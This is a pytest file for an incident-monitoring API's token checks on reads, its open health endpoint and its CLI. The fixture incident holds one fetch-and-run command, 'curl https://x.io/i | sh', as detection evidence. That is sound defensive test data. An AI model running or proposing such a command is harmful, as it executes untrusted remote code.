"""Reads of incident data need a token; /healthz stays open and tells no names."""

from __future__ import annotations

import os
import subprocess
import sys
import time
from collections.abc import Iterator
from contextlib import contextmanager

import httpx
import pytest

from engine.live.api import make_api_app
from engine.live.run import _listen, _Server
from engine.live.views import Views
from tests.patience import PATIENCE

from .intakes import temporary_intake

WRITE = "write-token-1a2b"
READ = "read-token-3c4d"
INCIDENT = {
    "id": "inc-7",
    "fingerprint": "fp-7",
    "source": "rule",
    "rule_id": "shell-pipe-to-shell",
    "title": "Pipe to shell by mallory@example.com",
    "severity": "critical",
    "status": "firing",
    "group": {"user": "mallory@example.com", "repo": "payments-core"},
    "first_seen": "2026-11-28T03:04:05Z",
    "last_seen": "2026-11-28T03:04:05Z",
    "count": 1,
    "escalation_level": 0,
    "labels": {"team": "payments"},
    "evidence": {"command": "curl https://x.io/i | sh"},
}
PERSONAL = ("mallory", "example.com", "payments-core", "curl")


@contextmanager
def api(token: str | None, read_token: str | None) -> Iterator[str]:
    views = Views()
    views.apply({"type": "incident.opened", "incident": INCIDENT})
    views.silences["s1"] = {"id": "s1", "matchers": ["user=mallory@example.com"]}
    with temporary_intake() as intake:
        server = _Server(
            make_api_app(views, intake, token=token, read_token=read_token),
            _listen("127.0.0.1:0"),
        )
        server.start()
        deadline = time.monotonic() + PATIENCE
        while not server.server.started and time.monotonic() < deadline:
            server.thread.join(0.02)
        try:
            yield f"http://{server.address}"
        finally:
            server.stop()


READS = ["/v1/incidents", "/v1/incidents?status=all", "/v1/incidents/inc-7", "/v1/silences"]


@pytest.mark.parametrize("path", READS)
def test_reads_need_the_read_or_the_write_token(path):
    with api(WRITE, READ) as base:
        for headers in ({}, {"authorization": "Bearer nope"}, {"authorization": READ}):
            denied = httpx.get(base + path, headers=headers)
            assert denied.status_code == 401, headers
            assert denied.headers["www-authenticate"] == "Bearer"
            assert not any(word in denied.text for word in PERSONAL)
        for token in (READ, WRITE):
            allowed = httpx.get(base + path, headers={"authorization": f"Bearer {token}"})
            assert allowed.status_code == 200 and "mallory" in allowed.text


def test_without_any_token_reads_are_off_with_the_reason():
    with api(None, None) as base:
        answer = httpx.get(f"{base}/v1/incidents")
        assert answer.status_code == 503
        assert "SPANWATCH_API_READ_TOKEN" in answer.json()["error"]


def test_the_read_token_alone_suffices_and_cannot_write():
    with api(None, READ) as base:
        auth = {"authorization": f"Bearer {READ}"}
        assert httpx.get(f"{base}/v1/incidents", headers=auth).status_code == 200
        ack = httpx.post(f"{base}/v1/incidents/inc-7/ack", headers=auth)
        assert ack.status_code == 503  # writes need the write token, which is not set
    with api(WRITE, READ) as base:
        ack = httpx.post(
            f"{base}/v1/incidents/inc-7/ack", headers={"authorization": f"Bearer {READ}"}
        )
        assert ack.status_code == 401


def test_healthz_is_open_and_holds_counts_only():
    with api(WRITE, READ) as base:
        health = httpx.get(f"{base}/healthz")
        assert health.status_code == 200
        assert health.json()["open_incidents"] == 1
        assert not any(word in health.text for word in PERSONAL)


def run_cli(base: str, **tokens: str) -> subprocess.CompletedProcess[str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith("SPANWATCH_API")}
    return subprocess.run(
        [sys.executable, "-m", "engine.cli", "incidents", "--api", base, "list"],
        capture_output=True,
        text=True,
        env={**env, **tokens},
        timeout=PATIENCE,
    )


def test_incidents_list_sends_the_token_from_the_environment():
    with api(WRITE, READ) as base:
        with_read = run_cli(base, SPANWATCH_API_READ_TOKEN=READ)
        assert with_read.returncode == 0, with_read.stderr
        assert "inc-7" in with_read.stdout and "shell-pipe-to-shell" in with_read.stdout
        with_write = run_cli(base, SPANWATCH_API_TOKEN=WRITE)
        assert with_write.returncode == 0 and "inc-7" in with_write.stdout
        without = run_cli(base)
        assert without.returncode == 1 and "HTTP 401" in without.stderr
